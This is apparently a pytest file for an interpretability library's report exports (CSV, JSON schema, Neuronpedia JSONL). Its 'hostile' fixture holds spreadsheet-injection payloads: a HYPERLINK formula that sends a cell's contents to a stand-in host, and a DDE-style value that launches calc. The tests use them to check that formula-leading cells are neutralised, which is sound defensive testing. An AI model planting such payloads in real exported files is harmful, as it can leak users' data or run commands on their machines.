"""What a report is exported to: CSV that a spreadsheet cannot run, results with their schema, Neuronpedia's files."""

from __future__ import annotations

import csv
import gzip
import json
from pathlib import Path
from typing import Any

import jsonschema
import polars as pl
import pytest
from planted_reports import THEMES, World, build_world

from saeinterp.artifacts import ArtifactStore
from saeinterp.errors import ConfigError, DataError
from saeinterp.report import Target, results_schema, write_csv, write_neuronpedia, write_report
from saeinterp.report.exports.schema import write_results

from .conftest import Report, read_report

TARGET = Target(model_id="smollm2-135m", source_set="res-test", author_id="someone")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Report:
    """Labels and tokens that a spreadsheet would run, or that end a file."""
    formula = '=HYPERLINK("http://example.invalid?"&A1,"click"),\n"two"'
    themes = tuple((theme[0], ("+1", "@cmd", " a\x00b", "-2"), formula, "-1+1|' /C calc'!A0") for theme in THEMES)
    world = build_world(
        ArtifactStore(tmp_path_factory.mktemp("hostile")), control=False, hookpoints=("layers.5",), themes=themes
    )
    return read_report(world, write_report(**world.arguments()))


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in gzip.decompress(path.read_bytes()).decode().splitlines()]


def test_every_table_becomes_csv_with_the_same_numbers(report: Report, tmp_path: Path) -> None:
    files = write_csv(report.artifact.path, tmp_path / "out")
    assert {path.stem for path in files} == {"latents", "examples", "layers", "curves", "density"}
    for path in files:
        table = pl.read_parquet(report.artifact.path / "tables" / f"{path.stem}.parquet")
        found = rows(path)
        assert len(found) == len(table)
        assert list(found[0]) == table.columns
        for name, kind in table.schema.items():
            if kind.is_float():
                shown = [float(row[name]) if row[name] else None for row in found]
                assert shown == table[name].to_list(), (path.name, name)


def test_lists_are_json_and_nulls_are_empty(report: Report, tmp_path: Path) -> None:
    write_csv(report.artifact.path, tmp_path)
    table = pl.read_parquet(report.artifact.path / "tables" / "examples.parquet")
    found = rows(tmp_path / "examples.csv")
    assert json.loads(found[0]["tokens"]) == table["tokens"][0].to_list()
    assert json.loads(found[0]["activations"]) == table["activations"][0].to_list()
    empty = [row["verdict_a"] for row, value in zip(found, table["verdict_a"]) if value is None]
    assert empty
    assert set(empty) == {""}


def test_no_cell_begins_as_a_formula_and_the_text_is_whole(hostile: Report, tmp_path: Path) -> None:
    for path in write_csv(hostile.artifact.path, tmp_path):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        assert b"\x00" not in raw
        table = pl.read_parquet(hostile.artifact.path / "tables" / f"{path.stem}.parquet")
        texts = [name for name, kind in table.schema.items() if kind == pl.String]
        for row, whole in zip(rows(path), table.select(texts).iter_rows(named=True)):
            for name in texts:
                assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, name)
                assert row[name].removeprefix("'") == (whole[name] or "").replace("\x00", "␀")
    label = rows(tmp_path / "latents.csv")[0]["explanation_a"]
    assert label.startswith("'=HYPERLINK")


def test_results_fit_their_schema_and_every_key_is_described(report: Report, hostile: Report) -> None:
    schema = results_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    for item in (report, hostile):
        validator.validate(json.loads(item.artifact.file("results.json").read_text(encoding="utf-8")))
        assert json.loads(item.artifact.file("results.schema.json").read_text(encoding="utf-8")) == schema
    broken = json.loads(report.artifact.file("results.json").read_text(encoding="utf-8"))
    broken["layers"][0]["loss_recovered"]["value"] = "high"
    with pytest.raises(jsonschema.ValidationError):
        validator.validate(broken)
    for name, part in {"Results": schema, **schema["$defs"]}.items():
        for key, field in part["properties"].items():
            assert field.get("description"), f"{name}.{key}"
            assert field.get("title") or "$ref" in field, f"{name}.{key}"


def test_titles_of_the_schema_are_the_headings_of_both_pages(report: Report) -> None:
    for model, keys in {
        "LayerHealth": ("loss_recovered", "delta_ce", "fvu", "l0"),
        "MetricRow": ("difference", "p", "p_holm", "detectable"),
        "LayerTraining": ("rows", "steps", "fvu", "dead"),
    }.items():
        properties = results_schema()["$defs"][model]["properties"]
        for key in keys:
            assert f" {properties[key]['title']} |" in report.markdown, (model, key)
            assert f">{properties[key]['title']}</th>" in report.html, (model, key)


def test_results_are_exported_with_their_schema(report: Report, tmp_path: Path) -> None:
    results, schema = write_results(report.artifact.path, tmp_path / "out")
    assert results.read_bytes() == report.artifact.file("results.json").read_bytes()
    assert json.loads(schema.read_text(encoding="utf-8")) == results_schema()
    with pytest.raises(DataError, match="not a report"):
        write_results(tmp_path, tmp_path / "other")


def test_neuronpedia_files_have_its_columns_and_the_report_s_values(report: Report, tmp_path: Path) -> None:
    done = write_neuronpedia(report.artifact.path, tmp_path, target=TARGET)
    assert done.sources == ["5-res-test", "10-res-test", "15-res-test"]
    folder = tmp_path / "smollm2-135m" / "10-res-test"
    table = pl.read_parquet(report.artifact.path / "tables" / "latents.parquet").filter(hookpoint="layers.10")
    features, explanations, activations = (
        lines(folder / name / "batch-0.jsonl.gz") for name in ("features", "explanations", "activations")
    )
    assert [row["index"] for row in features] == [str(latent) for latent in sorted(table["latent"])]
    assert [row["frac_nonzero"] for row in features] == table.sort("latent")["density"].to_list()
    assert {row["layer"] for row in (*features, *explanations, *activations)} == {"10-res-test"}
    assert {row["creatorId"] for row in features} == {"someone"}
    # As Neuronpedia's tables name them.
    assert set(explanations[0]) == {"id", "modelId", "layer", "index", "authorId", "description", "notes"}
    assert set(activations[0]) == {
        *("id", "modelId", "layer", "index", "creatorId", "tokens", "values", "maxValue", "minValue"),
        "maxValueTokenIndex",
    }
    labels = {(row["index"], row["notes"]): row["description"] for row in explanations}
    for row in table.iter_rows(named=True):
        for side, title in (("a", "SmolLM2 135M"), ("b", "top-tokens")):
            assert labels.get((str(row["latent"]), f"explainer: {title}")) == row[f"explanation_{side}"]
    for row in activations:
        assert len(row["tokens"]) == len(row["values"])
        assert row["values"][row["maxValueTokenIndex"]] == row["maxValue"] == max(row["values"]) > 0
    ids = [row["id"] for row in (*explanations, *activations)]
    assert len(set(ids)) == len(ids)


def test_neuronpedia_files_are_equal_bytes_and_name_only_what_is_given(report: Report, tmp_path: Path) -> None:
    given = Target("m", "s", type_name="oai_token-act-pair", model_name="gpt-4o-mini")
    first = write_neuronpedia(report.artifact.path, tmp_path / "one", target=given, sides=["b"])
    second = write_neuronpedia(report.artifact.path, tmp_path / "two", target=given, sides=["b"])
    assert [path.read_bytes() for path in first.files] == [path.read_bytes() for path in second.files]
    row = lines(tmp_path / "one" / "m" / "5-s" / "explanations" / "batch-0.jsonl.gz")[0]
    assert (row["typeName"], row["explanationModelName"]) == ("oai_token-act-pair", "gpt-4o-mini")
    assert "authorId" not in row
    assert first.explanations == 21


def test_neuronpedia_refuses_what_it_has_no_place_for(world: World, report: Report, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="--model-id"):
        write_neuronpedia(report.artifact.path, tmp_path, target=Target("../up", "s"))
    health = write_report(**world.arguments(explainer_comparison=None))
    with pytest.raises(DataError, match="no explained latents"):
        write_neuronpedia(health.path, tmp_path, target=TARGET)
